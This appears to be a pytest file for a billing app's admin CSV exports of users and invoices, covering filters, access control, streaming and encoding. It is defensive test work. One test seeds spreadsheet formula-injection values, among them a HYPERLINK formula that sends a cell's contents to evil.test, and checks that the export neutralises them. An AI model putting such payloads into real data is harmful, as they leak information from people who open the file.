"""CSV exports: GET /api/billing/admin/users.csv and /invoices.csv."""

from __future__ import annotations

import codecs
import csv
import io
import threading
from datetime import UTC, datetime

import pytest
import sqlalchemy as sa

from billing_app.api import admin_routes
from billing_app.db import session_scope
from billing_app.models import Invoice, User
from billing_app.services import admin, exports, metering, quotas
from tests.api.conftest import PASSWORD
from tests.factories import make_subscription, make_user

USERS = "/api/billing/admin/users.csv"
INVOICES = "/api/billing/admin/invoices.csv"
USER_HEADER = [
    "id", "email", "name", "role", "plan", "status", "period_end", "cancels_at", "joined",
    "tokens_used", "tokens_limit", "api_calls_used", "api_calls_limit",
    "scraping_tasks_used", "scraping_tasks_limit", "amount_owed", "currency",
]  # fmt: skip
INVOICE_HEADER = [
    "number", "stripe_invoice_id", "customer_email", "status", "currency", "total",
    "amount_due", "amount_paid", "amount_remaining", "paid_from_balance", "credited_to_balance",
    "created", "period_start", "period_end", "hosted_invoice_url", "invoice_pdf", "description",
]  # fmt: skip


def decoded(body: bytes | str) -> str:
    """The file's text as a spreadsheet reads it: UTF-8 with its byte order mark dropped."""
    return (body if isinstance(body, bytes) else body.encode()).decode("utf-8-sig")


def parse(body: bytes | str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(decoded(body), newline="")))


def records(body: bytes | str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(decoded(body), newline="")))


def _sub(user_id: int, plan: str, status: str, **fields) -> None:
    with session_scope() as s:
        make_subscription(s, user_id, plan=plan, status=status, **fields)


def test_users_csv_columns_and_values(frozen_clock, actors):  # everyone joins at 12:00
    with session_scope() as s:
        carol = make_user(s, email="carol@acme.com")
        dave = make_user(s, email="dave@acme.com")
        metering.record(s, actors.a.id, "tokens", 5000)
        metering.record(s, actors.a.id, "api_calls", 30)
        metering.record(s, carol.id, "scraping_tasks", 7)
        quotas.set_override(s, dave.id, "api_calls", 0, "pilot", actor_user_id=actors.admin.id)
    dec1, dec10 = datetime(2026, 12, 1, tzinfo=UTC), datetime(2026, 12, 10, tzinfo=UTC)
    _sub(actors.a.id, "pro", "active", current_period_end=dec1, cancel_at_period_end=True)
    _sub(actors.b.id, "basic", "canceled", current_period_end=dec1)
    _sub(carol.id, "enterprise", "active", current_period_end=dec10)

    r = actors.cookie_client(actors.admin).get(USERS)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.headers["content-disposition"] == 'attachment; filename="users-2026-11-15.csv"'
    assert r.text.endswith("\r\n")
    rows = parse(r.content)
    assert rows[0] == USER_HEADER
    joined = "2026-11-15T12:00:00Z"
    assert rows[1:] == [
        # a live subscription set to cancel: its period's end twice
        [str(actors.a.id), "alice@example.com", "alice", "user", "pro", "active",
         "2026-12-01T00:00:00Z", "2026-12-01T00:00:00Z", joined,
         "5000", "1000000", "30", "10000", "0", "1000", "0.00", "USD"],
        # a canceled one grants nothing and ends nothing
        [str(actors.b.id), "bob@example.com", "bob", "user", "free", "canceled",
         "", "", joined, "0", "100000", "0", "1000", "0", "100", "0.00", "USD"],
        # enterprise: every limit unlimited, written as such
        [str(carol.id), "carol@acme.com", "carol", "user", "enterprise", "active",
         "2026-12-10T00:00:00Z", "", joined,
         "0", "unlimited", "0", "unlimited", "7", "unlimited", "0.00", "USD"],
        # an admin's override to unlimited on one metric
        [str(dave.id), "dave@acme.com", "dave", "user", "free", "none",
         "", "", joined, "0", "10000", "0", "unlimited", "0", "10", "0.00", "USD"],
        [str(actors.admin.id), "root@example.com", "root", "admin", "free", "none",
         "", "", joined, "0", "10000", "0", "100", "0", "10", "0.00", "USD"],
    ]  # fmt: skip


@pytest.mark.parametrize(
    "params",
    [
        {},
        {"q": "CAR"},
        {"q": "@acme"},
        {"q": "%"},
        {"plan": "pro"},
        {"plan": "free"},
        {"status": "none"},
        {"status": "canceled"},
        {"sort": "-usage_tokens"},
        {"sort": "usage_scraping_tasks"},
        {"sort": "-created"},
        {"sort": "-email", "plan": "free"},
        {"q": "@example.com", "status": "none", "sort": "created"},
    ],
    ids=repr,
)
def test_users_csv_filters_and_sorts_as_the_list(actors, frozen_clock, params):
    with session_scope() as s:
        carol = make_user(s, email="carol@acme.com")
        frozen_clock.set(datetime(2026, 11, 16, tzinfo=UTC))
        make_user(s, email="dan@acme.com")
        metering.record(s, carol.id, "tokens", 5000)
        metering.record(s, actors.b.id, "tokens", 700)
        metering.record(s, actors.a.id, "scraping_tasks", 3)
    _sub(actors.a.id, "pro", "active")
    _sub(actors.b.id, "basic", "canceled")
    c = actors.cookie_client(actors.admin)
    listed = c.get("/api/billing/admin/users", params={**params, "per_page": 200})
    assert listed.status_code == 200, listed.text
    r = c.get(USERS, params=params)
    assert r.status_code == 200, r.text
    exported = [(int(row["id"]), row["email"]) for row in records(r.content)]
    assert exported == [(u["id"], u["email"]) for u in listed.json()["items"]]
    assert len(exported) == listed.json()["total"]


def test_users_csv_filters_pick_the_right_rows(actors, frozen_clock):
    with session_scope() as s:
        make_user(s, email="carol@acme.com")
    _sub(actors.a.id, "pro", "active")
    c = actors.cookie_client(actors.admin)

    def emails(**params):
        r = c.get(USERS, params=params)
        assert r.status_code == 200, r.text
        return [row["email"] for row in records(r.content)]

    assert emails(q="@acme") == ["carol@acme.com"]
    assert emails(plan="pro") == ["alice@example.com"]
    assert emails(status="none", sort="-email") == [
        "root@example.com", "carol@acme.com", "bob@example.com"
    ]  # fmt: skip
    assert emails(q="nobody") == []
    assert parse(c.get(USERS, params={"q": "nobody"}).content) == [USER_HEADER]


def test_a_refused_filter_is_422_not_a_file(actors):
    c = actors.cookie_client(actors.admin)
    for url, params in (
        (USERS, {"sort": "password"}),
        (USERS, {"plan": "gold"}),
        (USERS, {"status": "x"}),
        (USERS, {"q": "x" * 321}),
        (INVOICES, {"status": "refunded"}),
    ):
        r = c.get(url, params=params)
        assert r.status_code == 422, (url, params, r.text)
        assert r.headers["content-type"] == "application/json"
        assert "content-disposition" not in r.headers
        assert r.json()["error"]["code"] == "validation_error"


def test_users_csv_has_every_row_not_one_page(session, actors):
    """2,050 users: past the list's largest page and several of the export's chunks."""
    session.add_all(User(email=f"bulk{(i * 7919) % 2050:05d}@example.com") for i in range(2050))
    session.commit()
    ordered = session.execute(sa.text('SELECT id, email FROM "user" ORDER BY email')).all()
    session.rollback()
    r = actors.cookie_client(actors.admin).get(USERS)
    assert r.status_code == 200, r.text
    assert [(int(row["id"]), row["email"]) for row in records(r.content)] == [
        tuple(row) for row in ordered
    ]
    # The text comes a chunk of rows at a time, each piece whole lines.
    with session_scope() as s:
        pieces = list(exports.users_csv(s, admin.UserFilters(), chunk=500))
    assert len(pieces) == 5 and all(p.endswith("\r\n") for p in pieces)
    assert "".join(pieces) == r.text


def test_text_that_could_start_a_formula_is_quoted(actors, client, frozen_clock):
    evil = '=HYPERLINK("http://evil.test/?leak="&A1,"click")@evil.test'
    signup = client.post(
        "/api/auth/signup",
        json={"email": evil, "password": PASSWORD, "display_name": "+1-555-0100"},
    )
    assert signup.status_code == 201, signup.text
    names = ["-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR", "plain - name", "'quoted"]
    with session_scope() as s:
        for i, name in enumerate(names):
            make_user(s, email=f"n{i}@example.com")
            s.execute(sa.text('UPDATE "user" SET display_name = :n WHERE email = :e'),
                      {"n": name, "e": f"n{i}@example.com"})  # fmt: skip
        s.add(
            Invoice(stripe_invoice_id="in_evil", user_id=actors.a.id, number="=1+2",
                    status="paid", hosted_invoice_url="@http://evil.test")
        )  # fmt: skip
        s.commit()
    c = actors.cookie_client(actors.admin)
    by_email = {row["email"]: row for row in records(c.get(USERS).content)}
    quoted_email = "'" + evil.lower()  # emails are stored lower-cased
    assert by_email[quoted_email]["name"] == "'+1-555-0100"
    assert [by_email[f"n{i}@example.com"]["name"] for i in range(len(names))] == [
        "'-2+3", "'@SUM(A1:A9)", "'\tTAB", "'\rCR", "plain - name", "'quoted"
    ]  # fmt: skip
    (inv,) = records(c.get(INVOICES).content)
    assert inv["number"] == "'=1+2" and inv["hosted_invoice_url"] == "'@http://evil.test"
    assert inv["customer_email"] == "alice@example.com"
    # Every cell of both files: none left that a spreadsheet would evaluate.
    for text in (c.get(USERS).content, c.get(INVOICES).content):
        for row in parse(text)[1:]:
            assert not any(v.startswith(exports.FORMULA_STARTS) for v in row), row


def test_invoices_csv_amounts_in_their_currency(actors, frozen_clock):
    def inv(n, status, due, paid, currency, day, **fields):
        return Invoice(stripe_invoice_id=f"in_{n}", number=f"INV-{n}", user_id=actors.a.id,
                       status=status, amount_due=due, amount_paid=paid, currency=currency,
                       created_at=datetime(2026, 10, day, 9, 30, 15, 123456, tzinfo=UTC),
                       **fields)  # fmt: skip

    with session_scope() as s:
        s.add_all(
            [
                inv(1, "paid", 1900, 1900, "usd", 1,
                    period_start=datetime(2026, 10, 1, tzinfo=UTC),
                    period_end=datetime(2026, 11, 1, tzinfo=UTC),
                    hosted_invoice_url="https://invoice.stripe.com/i/1",
                    invoice_pdf="https://pay.stripe.com/invoice/1/pdf",
                    description="Pro plan (prorated)"),
                inv(2, "open", 1500, 0, "jpy", 2),  # zero-decimal: 1500 is ¥1,500
                inv(3, "paid", 12345, 12345, "kwd", 3),  # three decimals
                inv(4, "void", 5, 0, "eur", 4),
            ]
        )  # fmt: skip
        bob_invoice = Invoice(
            stripe_invoice_id="in_b",
            user_id=actors.b.id,
            status="open",
            amount_due=100_000_000,
            created_at=datetime(2026, 10, 5, tzinfo=UTC),
            description="=1+1 memo",  # a memo a spreadsheet would evaluate
        )
        s.add(bob_invoice)
        s.commit()
    c = actors.cookie_client(actors.admin)
    r = c.get(INVOICES)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.headers["content-disposition"] == 'attachment; filename="invoices-2026-11-15.csv"'
    rows = parse(r.content)
    assert rows[0] == INVOICE_HEADER
    # Rows without Stripe's total (stored before migration 0013): the total is what was
    # paid, else what is due; what remains is due less paid while open.
    assert rows[1:] == [  # newest first, as the invoices tab
        ["", "in_b", "bob@example.com", "open", "USD", "1000000.00", "1000000.00", "0.00",
         "1000000.00", "0.00", "0.00", "2026-10-05T00:00:00Z", "", "", "", "", "'=1+1 memo"],
        ["INV-4", "in_4", "alice@example.com", "void", "EUR", "0.05", "0.05", "0.00",
         "0.00", "0.00", "0.00", "2026-10-04T09:30:15Z", "", "", "", "", ""],
        ["INV-3", "in_3", "alice@example.com", "paid", "KWD", "12.345", "12.345", "12.345",
         "0.000", "0.000", "0.000", "2026-10-03T09:30:15Z", "", "", "", "", ""],
        ["INV-2", "in_2", "alice@example.com", "open", "JPY", "1500", "1500", "0",
         "1500", "0", "0", "2026-10-02T09:30:15Z", "", "", "", "", ""],
        ["INV-1", "in_1", "alice@example.com", "paid", "USD", "19.00", "19.00", "19.00",
         "0.00", "0.00", "0.00",
         "2026-10-01T09:30:15Z", "2026-10-01T00:00:00Z", "2026-11-01T00:00:00Z",
         "https://invoice.stripe.com/i/1", "https://pay.stripe.com/invoice/1/pdf",
         "Pro plan (prorated)"],
    ]  # fmt: skip
    opened = records(c.get(INVOICES, params={"status": "open"}).content)
    assert [i["stripe_invoice_id"] for i in opened] == ["in_b", "in_2"]
    assert parse(c.get(INVOICES, params={"status": "draft"}).content) == [INVOICE_HEADER]


def test_exports_are_for_admins_only(actors):
    for url in (USERS, INVOICES):
        assert actors.anon().get(url).status_code == 401
        for client in (
            actors.cookie_client(actors.a),
            actors.key_client(actors.a_key),
            actors.key_client(actors.service_key),
        ):
            r = client.get(url)
            assert r.status_code == 403 and r.json()["error"]["code"] == "forbidden"
            assert "alice@example.com" not in r.text
    with session_scope() as s:
        from billing_app.services import api_keys

        scoped = api_keys.create_key(s, name="ro", user_id=actors.admin.id, scopes=["usage:read"])[
            1
        ]
        unscoped = api_keys.create_key(s, name="all", user_id=actors.admin.id)[1]
    for url in (USERS, INVOICES):
        assert actors.key_client(scoped).get(url).status_code == 403
        assert actors.key_client(unscoped).get(url).status_code == 200


def test_an_export_under_way_holds_no_write_lock_and_reads_one_snapshot(session, actors):
    """Writers go on while a file streams (on SQLite the export takes no write lock),
    and the file is the moment it began: a change made meanwhile is in no row."""
    session.add_all(User(email=f"u{i:04d}@example.com", display_name="before") for i in range(300))
    session.commit()
    stream = admin_routes._csv_rows(lambda s: exports.users_csv(s, admin.UserFilters(), chunk=50))
    first = next(stream)  # the read transaction is open, its cursor part-way
    assert first.count("\r\n") == 51

    done = threading.Event()

    def write() -> None:
        with session_scope() as s:
            metering.record(s, actors.a.id, "tokens", 5)
            s.execute(sa.text("UPDATE \"user\" SET display_name = 'after'"))
            s.commit()
        done.set()

    writer = threading.Thread(target=write, daemon=True)
    writer.start()
    writer.join(timeout=10)
    assert done.is_set(), "a write waited for the export"
    rows = records(first + "".join(stream))
    assert len(rows) == 303
    assert {r["name"] for r in rows if r["email"].startswith("u")} == {"before"}
    assert next(r for r in rows if r["email"] == "alice@example.com")["tokens_used"] == "0"


def test_a_download_under_way_over_http_blocks_no_writer(actors, live_server, monkeypatch):
    """The whole request, signed in by cookie as a browser is: while the file is on its
    way (held after its first piece here), a usage write commits at once. The stream's
    own read takes no write lock, and nor may anything the request did before it
    (authentication's session) stay open for as long as the download lasts."""
    import httpx

    from billing_app.services import auth

    gate = threading.Event()
    real = exports.users_csv

    def held(session, filters):
        pieces = real(session, filters, chunk=10)
        yield next(pieces)
        gate.wait(timeout=30)
        yield from pieces

    monkeypatch.setattr(exports, "users_csv", held)
    with session_scope() as s:
        s.add_all(User(email=f"u{i:03d}@example.com") for i in range(100))
        s.commit()
        token = auth.new_session(s, actors.admin.id)
    done = threading.Event()

    def write() -> None:
        with session_scope() as s:
            metering.record(s, actors.a.id, "tokens", 5)
        done.set()

    with httpx.Client(base_url=live_server.url, timeout=30) as client:
        client.cookies.set(auth.SESSION_COOKIE, token)
        with client.stream("GET", USERS) as r:
            assert r.status_code == 200
            text = r.iter_text()
            body = next(text)
            writer = threading.Thread(target=write, daemon=True)
            writer.start()
            writer.join(timeout=5)
            gate.set()
            assert done.is_set(), "a write waited for a download"
            body += "".join(text)
    assert len(records(body)) == 103


def test_the_file_starts_with_a_byte_order_mark_for_excel(actors, frozen_clock):
    """Excel reads a CSV without a UTF-8 byte order mark in the machine's ANSI code page:
    "Zoë" would show as "ZoÃ«". The mark comes once, at the start; the header still says
    utf-8, and a `utf-8-sig` reader (as spreadsheets) gets the text back as it was."""
    with session_scope() as s:
        zoe = make_user(s, email="zoe@example.com")
        s.execute(sa.text('UPDATE "user" SET display_name = :n WHERE id = :i'),
                  {"n": "Zoë Ærø 李", "i": zoe.id})  # fmt: skip
        s.add(Invoice(stripe_invoice_id="in_zoe", user_id=zoe.id, number="Nº-1", status="paid"))
        s.commit()
    c = actors.cookie_client(actors.admin)
    for url, first in ((USERS, b"id,"), (INVOICES, b"number,")):
        r = c.get(url)
        assert r.status_code == 200, r.text
        assert r.headers["content-type"] == "text/csv; charset=utf-8"
        assert r.content.startswith(codecs.BOM_UTF8 + first)
        assert r.content.count(codecs.BOM_UTF8) == 1
    by_email = {row["email"]: row for row in records(c.get(USERS).content)}
    assert by_email["zoe@example.com"]["name"] == "Zoë Ærø 李"
    assert records(c.get(INVOICES).content)[0]["number"] == "Nº-1"
    with session_scope() as s:  # several pieces: the mark is in the first only
        pieces = list(exports.users_csv(s, admin.UserFilters(), chunk=2))
    assert len(pieces) == 2 and pieces[0].startswith("\ufeffid,")
    assert not any("\ufeff" in p for p in pieces[1:])


def _failing_after_first_piece(monkeypatch: pytest.MonkeyPatch) -> None:
    """The users export's read fails as a lost database connection does, after its first
    10 rows are written (the response is under way by then)."""
    real = exports.users_csv

    def failing(session, filters):
        pieces = real(session, filters, chunk=10)
        yield next(pieces)
        raise sa.exc.OperationalError(
            "SELECT ...", {}, Exception("server closed the connection unexpectedly")
        )

    monkeypatch.setattr(exports, "users_csv", failing)


def _admin_token(actors, users: int = 100) -> str:
    from billing_app.services import auth

    with session_scope() as s:
        s.add_all(User(email=f"u{i:03d}@example.com") for i in range(users))
        s.commit()
        return auth.new_session(s, actors.admin.id)


def test_a_failure_mid_download_aborts_it_over_http(actors, live_server, monkeypatch, caplog):
    """The database fails after the status and the first rows are sent: the client must
    see a failed download (the chunked body never ends), never a file that is merely
    shorter, and the failure is logged as the export's."""
    import httpx

    from billing_app.services import auth

    _failing_after_first_piece(monkeypatch)
    token = _admin_token(actors)
    with httpx.Client(base_url=live_server.url, timeout=30) as client:
        client.cookies.set(auth.SESSION_COOKIE, token)
        with client.stream("GET", USERS) as r:
            assert r.status_code == 200
            with pytest.raises(httpx.RemoteProtocolError, match="incomplete chunked read"):
                r.read()
    logged = [rec for rec in caplog.records if "users.csv export failed" in rec.getMessage()]
    assert logged and logged[0].exc_info is not None
    assert "server closed the connection" in str(logged[0].exc_info[1])


def _http10_get(base_url: str, path: str, cookie: str) -> tuple[str, dict[str, str], bytes]:
    """GET over HTTP/1.0 (as nginx asks its upstream by default), read to the close:
    (status line, headers, body). HTTP/1.0 has no chunked encoding: a body without a
    Content-Length ends where the connection does."""
    import socket
    from urllib.parse import urlsplit

    url = urlsplit(base_url)
    with socket.create_connection((url.hostname, url.port), timeout=30) as sock:
        sock.sendall(
            f"GET {path} HTTP/1.0\r\nHost: {url.netloc}\r\nCookie: {cookie}\r\n\r\n".encode()
        )
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    status, *lines = head.decode("latin-1").split("\r\n")
    headers = {k.lower(): v.strip() for k, v in (line.split(":", 1) for line in lines)}
    return status, headers, body


def test_an_http10_download_is_whole_or_an_error(actors, live_server, monkeypatch):
    """Over HTTP/1.0 a streamed body cut short would end as cleanly as a whole one, so
    the file is written before the status is sent and comes with its Content-Length:
    a whole file, or the 503 the failure is, never a 200 that stops early."""
    from billing_app.services import auth

    token = _admin_token(actors)
    cookie = f"{auth.SESSION_COOKIE}={token}"
    status, headers, body = _http10_get(live_server.url, USERS, cookie)
    assert status.endswith(" 200 OK"), status
    assert headers["content-length"] == str(len(body))
    assert headers["content-type"] == "text/csv; charset=utf-8"
    assert len(records(body)) == 103

    _failing_after_first_piece(monkeypatch)
    status, headers, body = _http10_get(live_server.url, USERS, cookie)
    assert status.endswith(" 503 Service Unavailable"), (status, body[:200])
    assert headers["content-type"] == "application/json"
    assert b"u000@example.com" not in body


@pytest.mark.parametrize("reset", ["calendar_month", "billing_period"])
def test_every_users_row_says_what_the_list_says(actors, frozen_clock, monkeypatch, reset):
    """The export reads the list's rows in one statement (its plan, status, cancel date,
    usage and limits joined in SQL): for every kind of subscription, two subscriptions of
    one user, an override and a billing-period counter, each row says what the list's
    row for the user says."""
    from datetime import timedelta

    from billing_app import plans
    from billing_app.settings import get_settings

    if reset == "billing_period":
        monkeypatch.setenv("BILLING_PLANS_JSON", '{"pro": {"reset": "billing_period"}}')
        plans.get_catalog.cache_clear()
        get_settings.cache_clear()
    now = frozen_clock.now
    dec1, dec10 = datetime(2026, 12, 1, tzinfo=UTC), datetime(2026, 12, 10, tzinfo=UTC)
    states = [  # status, plan, fields
        ("active", "pro", {"cancel_at": dec10, "current_period_end": dec1}),
        ("active", "basic", {"cancel_at_period_end": True, "current_period_end": dec1}),
        ("trialing", "enterprise", {"current_period_end": dec10}),
        ("past_due", "pro", {"past_due_since": now - timedelta(days=2)}),
        ("past_due", "basic", {"past_due_since": now - timedelta(days=30)}),
        ("canceled", "pro", {"cancel_at_period_end": True, "current_period_end": dec1}),
        ("incomplete", "basic", {}),
        ("unpaid", "pro", {}),
    ]
    with session_scope() as s:
        for i, (status, plan, fields) in enumerate(states):
            u = make_user(s, email=f"s{i}@example.com")
            make_subscription(s, u.id, plan=plan, status=status, **fields)
            metering.record(s, u.id, "tokens", 100 + i)
        # An older live subscription wins over a newer canceled one.
        make_subscription(s, actors.a.id, plan="pro", status="active", sub_id="sub_old",
                          current_period_end=dec10,
                          created_at=now - timedelta(days=40))  # fmt: skip
        make_subscription(s, actors.a.id, plan="basic", status="canceled", sub_id="sub_new")
        quotas.set_override(s, actors.b.id, "tokens", 0, "pilot", actor_user_id=actors.admin.id)
        metering.record(s, actors.a.id, "api_calls", 7)
    c = actors.cookie_client(actors.admin)
    listed = c.get("/api/billing/admin/users", params={"per_page": 200, "sort": "-created"})
    assert listed.status_code == 200, listed.text
    exported = records(c.get(USERS, params={"sort": "-created"}).content)
    assert len(exported) == len(listed.json()["items"]) == 3 + len(states)
    for row, item in zip(exported, listed.json()["items"], strict=True):
        ends = item["ends_at"] and datetime.fromisoformat(item["ends_at"])
        expected = {
            "id": str(item["id"]),
            "email": item["email"],
            "plan": item["plan"],
            "status": item["status"],
            "cancels_at": ends.strftime("%Y-%m-%dT%H:%M:%SZ") if ends else "",
            **{
                f"{m['metric']}_{part}": str(value)
                for m in item["usage"]
                for part, value in (
                    ("used", m["used"]),
                    ("limit", "unlimited" if m["unlimited"] else m["limit"]),
                )
            },
        }
        assert {k: row[k] for k in expected} == expected
    by_email = {row["email"]: row for row in exported}
    assert by_email["alice@example.com"]["period_end"] == "2026-12-10T00:00:00Z"
    assert by_email["s3@example.com"]["plan"] == "pro"  # past_due within the grace
    assert by_email["s4@example.com"]["plan"] == "free"  # past it
    assert by_email["bob@example.com"]["tokens_limit"] == "unlimited"


def test_users_csv_says_what_each_user_still_owes_as_the_list_does(actors, frozen_clock):
    """`amount_owed`: what the list's row says (`amount_owed`: failed payments still owed,
    in the plans' currency), as a decimal amount with its `currency`; read once a chunk,
    never once a user."""
    from decimal import Decimal

    def invoice(s, uid: int, n: int, **fields) -> None:
        money = {"currency": "usd", "total": 9900, "amount_due": 9900, "amount_paid": 0}
        s.add(Invoice(stripe_invoice_id=f"in_owed{n}", user_id=uid, number=f"OWE-{n}",
                      **{**money, **fields}))  # fmt: skip

    with session_scope() as s:
        two = make_user(s, email="two-failed@example.com")
        part = make_user(s, email="part-paid@example.com")
        fine = make_user(s, email="fine@example.com")
        invoice(s, two.id, 1, status="open", attempt_count=1)
        invoice(s, two.id, 2, status="open", attempt_count=2, amount_remaining=1950)
        invoice(s, part.id, 3, status="open", attempt_count=1, amount_remaining=4900)
        invoice(s, fine.id, 4, status="open", attempt_count=0)  # not failed (yet)
        invoice(s, fine.id, 5, status="paid", amount_paid=9900)
        invoice(s, actors.a.id, 6, status="open", attempt_count=1, total=-500)  # a credit
        s.commit()

    c = actors.cookie_client(actors.admin)
    listed = c.get("/api/billing/admin/users", params={"per_page": 200}).json()["items"]
    owed = {item["email"]: item["amount_owed"] for item in listed}
    assert owed["two-failed@example.com"] == 9900 + 1950
    assert owed["part-paid@example.com"] == 4900
    exported = records(c.get(USERS).content)
    assert {row["email"]: Decimal(row["amount_owed"]) * 100 for row in exported} == owed
    assert {row["currency"] for row in exported} == {"USD"}
    by_email = {row["email"]: row["amount_owed"] for row in exported}
    assert (by_email["two-failed@example.com"], by_email["fine@example.com"]) == ("118.50", "0.00")

    invoice_reads: list[str] = []

    def count(conn, cursor, statement, parameters, context, executemany):
        if "FROM invoice" in statement:
            invoice_reads.append(statement)

    with session_scope() as s:
        bind = s.get_bind()
        sa.event.listen(bind, "before_cursor_execute", count)
        try:
            pieces = list(exports.users_csv(s, admin.UserFilters(), chunk=2))
        finally:
            sa.event.remove(bind, "before_cursor_execute", count)
    assert len(pieces) == 3  # 6 users, 2 a chunk
    assert len(invoice_reads) == 3, invoice_reads
    assert "".join(pieces) == c.get(USERS).text
